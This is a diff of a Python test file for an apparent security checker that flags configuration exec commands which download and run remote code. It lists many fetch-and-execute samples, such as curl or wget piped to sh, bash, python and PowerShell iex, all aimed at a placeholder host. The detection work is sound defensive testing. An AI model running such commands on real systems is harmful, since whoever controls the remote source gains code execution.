@@ -39,58 +39,99 @@ def run(command: str, more: str = "") -> list[str]:
     return told(f"exec {{ 'a': command => '{command}', {more} }}")
 
 
-@pytest.mark.parametrize(
-    ("command", "expected"),
-    [
-        ("curl https://e.org/x | sh", [f"[sh] `sh` {SENT}"]),
-        ("curl https://e.org/x | sudo -E bash -", [f"[bash] `bash` {SENT}"]),
-        ("curl https://e.org/x | /bin/bash -s -- -y", [f"[bash] `bash` {SENT}"]),
-        ("curl -o - https://e.org/x | grep -v y | bash -ex", [f"[bash] `bash` {SENT}"]),
-        ("curl https://e.org/x | tee /tmp/y | bash", [f"[bash] `bash` {SENT}"]),
-        ("wget -qO- https://e.org/x | sh", [f"[sh] `sh` {SENT}"]),
-        ("wget -q -O - https://e.org/x | sh", [f"[sh] `sh` {SENT}"]),
-        ("wget --output-document=- https://e.org/x | sh", [f"[sh] `sh` {SENT}"]),
-        ("wget https://e.org/x | sh; curl -O https://e.org/x | sh; curl -sSo x https://e.org/x | sh", []),
-        ('curl https://e.org/x | bash -c "cat"; curl https://e.org/x | bash script', []),
-        ("curl https://e.org/x | python3; curl https://e.org/x | python - a", [
-            f"[python3] `python3` {SENT}", f"[python] `python` {SENT}"]),
-        ('curl https://e.org/x | python -c "import sys"; curl https://e.org/x | python a.py', []),
-        ("curl https://e.org/x | perl - a; curl https://e.org/x | perl -pe 1", [f"[perl] `perl` {SENT}"]),
-        ("curl https://e.org/x | php; curl https://e.org/x | php -r 1", [f"[php] `php` {SENT}"]),
-        ("curl https://e.org/x | php -- --quiet", [f"[php] `php` {SENT}"]),
-        ("curl https://e.org/x | node; curl https://e.org/x | node -e 1 | jq .", [f"[node] `node` {SENT}"]),
-        ('sh -c "$(curl -fsSL https://e.org/x)"', ['["$(curl -fsSL https://e.org/x)"] `sh` ' + SENT]),
-        ('python -c "$(curl https://e.org/x)"', ['["$(curl https://e.org/x)"] `python` ' + SENT]),
-        ("eval `curl https://e.org/x`", [f"[`curl https://e.org/x`] `eval` {SENT}"]),
-        ("bash <(curl https://e.org/x) -y", [f"[<(curl https://e.org/x)] `bash` {SENT}"]),
-        ("bash < <(curl https://e.org/x)", [f"[bash] `bash` {SENT}"]),
-        ('bash <<< "$(curl https://e.org/x)"', [f"[bash] `bash` {SENT}"]),
-        ("source <(curl https://e.org/x)", [f"[<(curl https://e.org/x)] `source` {SENT}"]),
-        ('echo "$(curl https://e.org/x)"; x="$(curl https://e.org/x)"; bash y "$x"', []),
-        ('x="$(curl https://e.org/x)"; echo "$x" | bash', [f"[bash] `bash` {SENT}"]),
-        ('ssh host "curl https://e.org/x | sh"', [f"[sh] `sh` {SENT}"]),
-        ("curl https://puppet:8140/packages/current/install.bash | bash", [
-            "possible [bash] `bash` runs what comes from `https://puppet:8140/packages/current/install.bash`, unseen:"
-            " whoever changes it there runs commands on this node"]),
-        ("curl -sk https://e.org/x | sh", [
-            "[sh] `sh` runs what comes from `https://e.org/x`, unseen: whoever changes it there"
-            " (or on the way: `-k` takes any certificate) runs commands on this node"]),
-        ("curl e.org/x | sh", [
-            "[sh] `sh` runs what comes from `e.org/x`, unseen: whoever changes it there"
-            " (or on the way: nothing encrypts it) runs commands on this node"]),
-        # Files.
-        ("curl -o /tmp/x https://e.org/x; sh /tmp/x", [f"possible [/tmp/x] `sh` {FETCHED}"]),
-        ("curl https://e.org/x > /tmp/x && . /tmp/x", [f"possible [/tmp/x] `.` {FETCHED}"]),
-        ("cd /tmp; wget https://e.org/x; chmod +x x; ./x", [f"possible [x] `x` {FETCHED}"]),
-        ("curl -o /tmp/x https://e.org/x; sh /tmp/y; /usr/bin/x", []),
-        ("curl -o /tmp/x https://e.org/x; sha256sum -c /tmp/s && sh /tmp/x", []),
-        ("wget http://e.org/x -O /tmp/x; sh /tmp/x", [
-            "likely [/tmp/x] `sh` runs what was fetched from `http://e.org/x`: whoever changes it there"
-            " (or on the way: nothing encrypts it) runs commands on this node"]),
-        ("curl https://e.org/x | tar x; curl https://e.org/x | apt-key add -; curl https://e.org/x | sudo tee /etc/y", []),
-        ('powershell.exe -Command "iwr -useb https://e.org/x | iex"', [f"[iex] `iex` {SENT}"]),
-    ],
-)  # fmt: skip
+COMMANDS = r"""
+curl https://e.org/x | sh
+    [sh] `sh` SENT
+curl https://e.org/x | sudo -E bash -
+    [bash] `bash` SENT
+curl https://e.org/x | /bin/bash -s -- -y
+    [bash] `bash` SENT
+curl -o - https://e.org/x | grep -v y | bash -ex
+    [bash] `bash` SENT
+curl https://e.org/x | tee /tmp/y | bash
+    [bash] `bash` SENT
+wget -qO- https://e.org/x | sh
+    [sh] `sh` SENT
+wget -q -O - https://e.org/x | sh
+    [sh] `sh` SENT
+wget --output-document=- https://e.org/x | sh
+    [sh] `sh` SENT
+wget https://e.org/x | sh; curl -O https://e.org/x | sh; curl -sSo x https://e.org/x | sh
+curl https://e.org/x | bash -c "cat"; curl https://e.org/x | bash script
+curl https://e.org/x | python3; curl https://e.org/x | python - a
+    [python3] `python3` SENT
+    [python] `python` SENT
+curl https://e.org/x | python -c "import sys"; curl https://e.org/x | python a.py
+curl https://e.org/x | perl - a; curl https://e.org/x | perl -pe 1
+    [perl] `perl` SENT
+curl https://e.org/x | php; curl https://e.org/x | php -r 1
+    [php] `php` SENT
+curl https://e.org/x | php -- --quiet
+    [php] `php` SENT
+curl https://e.org/x | node; curl https://e.org/x | node -e 1 | jq .
+    [node] `node` SENT
+sh -c "$(curl -fsSL https://e.org/x)"
+    ["$(curl -fsSL https://e.org/x)"] `sh` SENT
+python -c "$(curl https://e.org/x)"
+    ["$(curl https://e.org/x)"] `python` SENT
+eval `curl https://e.org/x`
+    [`curl https://e.org/x`] `eval` SENT
+bash <(curl https://e.org/x) -y
+    [<(curl https://e.org/x)] `bash` SENT
+bash < <(curl https://e.org/x)
+    [bash] `bash` SENT
+bash <<< "$(curl https://e.org/x)"
+    [bash] `bash` SENT
+source <(curl https://e.org/x)
+    [<(curl https://e.org/x)] `source` SENT
+echo "$(curl https://e.org/x)"; x="$(curl https://e.org/x)"; bash y "$x"
+x="$(curl https://e.org/x)"; echo "$x" | bash
+    [bash] `bash` SENT
+ssh host "curl https://e.org/x | sh"
+    [sh] `sh` SENT
+curl https://puppet:8140/packages/current/install.bash | bash
+    possible [bash] `bash` runs what comes from `https://puppet:8140/packages/current/install.bash`, unseen: whoever
+        changes it there runs commands on this node
+curl -sk https://e.org/x | sh
+    [sh] `sh` runs what comes from `https://e.org/x`, unseen: whoever changes it there (or on the way: `-k` takes
+        any certificate) runs commands on this node
+curl e.org/x | sh
+    [sh] `sh` runs what comes from `e.org/x`, unseen: whoever changes it there (or on the way: nothing encrypts it)
+        runs commands on this node
+curl -o /tmp/x https://e.org/x; sh /tmp/x
+    possible [/tmp/x] `sh` FETCHED
+curl https://e.org/x > /tmp/x && . /tmp/x
+    possible [/tmp/x] `.` FETCHED
+cd /tmp; wget https://e.org/x; chmod +x x; ./x
+    possible [x] `x` FETCHED
+curl -o /tmp/x https://e.org/x; sh /tmp/y; /usr/bin/x
+curl -o /tmp/x https://e.org/x; sha256sum -c /tmp/s && sh /tmp/x
+wget http://e.org/x -O /tmp/x; sh /tmp/x
+    likely [/tmp/x] `sh` runs what was fetched from `http://e.org/x`: whoever changes it there (or on the way:
+        nothing encrypts it) runs commands on this node
+curl https://e.org/x | tar x; curl https://e.org/x | apt-key add -; curl https://e.org/x | sudo tee /etc/y
+powershell.exe -Command "iwr -useb https://e.org/x | iex"
+    [iex] `iex` SENT
+"""
+"""Commands, each with its findings below it; what is further in goes on with the line above."""
+
+
+def commands() -> list[tuple[str, list[str]]]:
+    found: list[tuple[str, list[str]]] = []
+    for line in COMMANDS.strip("\n").split("\n"):
+        if line.startswith("        "):
+            found[-1][1][-1] += f" {line.strip()}"
+        elif line.startswith("    "):
+            found[-1][1].append(line.strip())
+        else:
+            found.append((line, []))
+    return [
+        (command, [one.replace("SENT", SENT).replace("FETCHED", FETCHED) for one in expected])
+        for command, expected in found
+    ]
+
+
+@pytest.mark.parametrize(("command", "expected"), commands())
 def test_commands(command: str, expected: list[str]) -> None:
     assert run(command) == expected
 
@@ -101,12 +142,14 @@ def test_commands(command: str, expected: list[str]) -> None:
         ("iwr https://e.org/x -UseBasicParsing | iex", [f"[iex] `iex` {SENT}"]),
         ("Invoke-Expression (Invoke-RestMethod https://e.org/x)", [f"[Invoke-Expression] `Invoke-Expression` {SENT}"]),
         ('$s = (New-Object Net.WebClient).DownloadString("https://e.org/x"); iex $s', [f"[iex] `iex` {SENT}"]),
-        ("& ([scriptblock]::Create((irm https://e.org/x))) -Quiet", [
-            f"[[scriptblock]::Create] `[scriptblock]::Create` {SENT}"]),
+        (
+            "& ([scriptblock]::Create((irm https://e.org/x))) -Quiet",
+            [f"[[scriptblock]::Create] `[scriptblock]::Create` {SENT}"],
+        ),
         ("iwr https://e.org/x -OutFile x.zip; iex $command", []),
         ("$s = irm https://e.org/x; Write-Host $s", []),
     ],
-)  # fmt: skip
+)
 def test_powershell(command: str, expected: list[str]) -> None:
     assert run(command, "provider => powershell") == expected
 
